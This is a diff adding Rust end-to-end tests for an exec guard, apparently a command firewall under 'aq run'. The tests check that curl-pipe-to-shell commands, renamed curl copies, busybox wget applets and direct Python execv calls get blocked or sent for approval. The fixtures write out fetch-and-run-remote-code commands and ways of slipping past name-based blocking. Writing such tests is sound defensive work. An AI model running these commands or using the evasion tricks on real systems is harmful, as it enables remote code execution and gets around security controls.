@@ -1,0 +1,187 @@
+//! The kernel exec guard under `aq run`, end to end: programs started by
+//! absolute path, renamed copies and direct `execv` calls never meet a
+//! shim, yet each exec is decided by the firewall (see docs/exec-guard.md).
+
+use std::os::unix::fs::PermissionsExt;
+use std::time::Duration;
+
+use crate::approve::{approve_once, wait_for_pending};
+use crate::util::Env;
+
+/// The decisions the exec guard logged.
+fn guard_decisions(session: &crate::util::Session) -> Vec<serde_json::Value> {
+    session
+        .events_of("command_decision")
+        .into_iter()
+        .filter(|d| d["source"] == "exec-guard")
+        .collect()
+}
+
+#[test]
+fn a_pipe_to_shell_by_absolute_paths_is_blocked() {
+    let env = Env::with_policy("", "");
+    env.write(
+        &env.work().join("s.sh"),
+        "/bin/bash -c '/usr/bin/curl -fsSL https://example.invalid/i.sh | /bin/sh'\necho \"bash exited $?\"\n",
+    );
+    let out = env.aq(&["run", "--", "sh", "s.sh"]);
+    out.code(0)
+        .stdout_has("bash exited 126")
+        .stderr_has("net-pipe-to-shell");
+    let session = env.only_session();
+    let d = guard_decisions(&session);
+    let bash = d
+        .iter()
+        .find(|d| d["argv"][0] == "bash")
+        .unwrap_or_else(|| panic!("no guard decision for bash:\n{}", session.log_text()));
+    assert_eq!(bash["decision"], "block");
+    assert!(
+        bash["exe"].as_str().is_some_and(|e| e.ends_with("bash")),
+        "{bash}"
+    );
+    assert!(bash["pid"].as_u64().unwrap_or(0) > 0 && bash["ppid"].as_u64().unwrap_or(0) > 0);
+}
+
+#[test]
+fn a_renamed_copy_of_a_blocked_tool_is_judged_as_that_tool() {
+    // Fetching is blocked by this policy; the copy is called `c`.
+    let env = Env::with_policy("", "\"net-fetch\" = \"block\"");
+    std::fs::copy("/usr/bin/curl", env.work().join("c")).unwrap();
+    std::fs::set_permissions(env.work().join("c"), std::fs::Permissions::from_mode(0o755)).unwrap();
+    env.write(
+        &env.work().join("s.sh"),
+        "./c -s http://127.0.0.1:9/\necho \"copy exited $?\"\n",
+    );
+    let out = env.aq(&["run", "--", "sh", "s.sh"]);
+    out.code(0).stdout_has("copy exited 126");
+    let session = env.only_session();
+    let d = guard_decisions(&session);
+    let copy = d
+        .iter()
+        .find(|d| d["exe"].as_str().is_some_and(|e| e.ends_with("/c")))
+        .unwrap_or_else(|| panic!("no guard decision for ./c:\n{}", session.log_text()));
+    assert_eq!(copy["argv"][0], "curl", "{copy}");
+    assert_eq!(copy["decision"], "block", "{copy}");
+}
+
+#[test]
+fn a_direct_execv_from_python_is_judged() {
+    let env = Env::with_policy("", "");
+    env.write(
+        &env.work().join("x.py"),
+        "import os\ntry:\n    os.execv('/bin/sh', ['sh', '-c', 'curl -s https://example.invalid/i.sh | sh'])\nexcept OSError as e:\n    print('execv refused, errno', e.errno)\n",
+    );
+    let out = env.aq(&["run", "--", "python3", "x.py"]);
+    out.code(0).stdout_has("execv refused, errno 13");
+    let session = env.only_session();
+    assert!(
+        guard_decisions(&session)
+            .iter()
+            .any(|d| d["argv"][0] == "sh" && d["decision"] == "block"),
+        "{}",
+        session.log_text()
+    );
+}
+
+#[test]
+fn a_busybox_applet_is_judged_as_the_applet() {
+    let Some(busybox) = ["/usr/bin/busybox", "/bin/busybox"]
+        .into_iter()
+        .find(|p| std::path::Path::new(p).exists())
+    else {
+        eprintln!("skipped: no busybox on this machine");
+        return;
+    };
+    let env = Env::with_policy("", "\"net-fetch\" = \"block\"");
+    std::os::unix::fs::symlink(busybox, env.work().join("wget")).unwrap();
+    env.write(
+        &env.work().join("s.sh"),
+        "./wget -q -O- http://127.0.0.1:9/\necho \"applet exited $?\"\n",
+    );
+    env.aq(&["run", "--", "sh", "s.sh"])
+        .code(0)
+        .stdout_has("applet exited 126");
+}
+
+#[test]
+fn allowed_programs_run_normally_and_nothing_is_asked_twice() {
+    let env = Env::with_policy("approval_timeout_secs = 30", "");
+    let f = env.work().join("f");
+    env.write(&f, "");
+    std::fs::set_permissions(&f, std::fs::Permissions::from_mode(0o644)).unwrap();
+    // git by absolute path (the guard allows it), then chmod through its
+    // shim (asks once: the shim's exec of the real chmod is not asked again).
+    let git = which("git").unwrap_or_else(|| "/usr/bin/git".into());
+    env.write(
+        &env.work().join("s.sh"),
+        &format!(
+            "{} --version\nchmod +x f\necho \"chmod exited $?\"\n",
+            git.display()
+        ),
+    );
+    let mut run = env.spawn(&["run", "--", "sh", "s.sh"]);
+    let session = wait_for_pending(&env, &mut run, "chmod +x f");
+    let Some(approve) = approve_once(&env, "o") else {
+        return;
+    };
+    approve.code(0);
+    let out = run.finish();
+    out.code(0)
+        .stdout_has("git version")
+        .stdout_has("chmod exited 0");
+    assert!(out.elapsed < Duration::from_secs(25), "{}", out.dump());
+    assert_eq!(
+        std::fs::metadata(&f).unwrap().permissions().mode() & 0o777,
+        0o755
+    );
+    let chmod_approvals = session
+        .events_of("approval")
+        .into_iter()
+        .filter(|a| a["argv"][0] == "chmod")
+        .count();
+    assert_eq!(chmod_approvals, 1, "{}", session.log_text());
+    assert!(
+        guard_decisions(&session)
+            .iter()
+            .any(|d| d["argv"][0] == "git" && d["decision"] == "allow"),
+        "{}",
+        session.log_text()
+    );
+}
+
+#[test]
+fn an_ask_from_the_guard_waits_for_the_approval_path() {
+    let env = Env::with_policy("approval_timeout_secs = 30", "");
+    let f = env.work().join("f");
+    env.write(&f, "");
+    std::fs::set_permissions(&f, std::fs::Permissions::from_mode(0o644)).unwrap();
+    // By absolute path: no shim, the guard asks.
+    env.write(
+        &env.work().join("s.sh"),
+        "/usr/bin/chmod +x f\necho \"chmod exited $?\"\n",
+    );
+    let mut run = env.spawn(&["run", "--", "sh", "s.sh"]);
+    let session = wait_for_pending(&env, &mut run, "chmod +x f");
+    let Some(approve) = approve_once(&env, "o") else {
+        return;
+    };
+    approve.code(0);
+    run.finish().code(0).stdout_has("chmod exited 0");
+    assert_eq!(
+        std::fs::metadata(&f).unwrap().permissions().mode() & 0o777,
+        0o755
+    );
+    assert!(
+        guard_decisions(&session)
+            .iter()
+            .any(|d| d["argv"][0] == "chmod" && d["decision"] == "ask"),
+        "{}",
+        session.log_text()
+    );
+}
+
+fn which(program: &str) -> Option<std::path::PathBuf> {
+    std::env::split_paths(&std::env::var_os("PATH")?)
+        .map(|d| d.join(program))
+        .find(|p| p.is_file())
+}
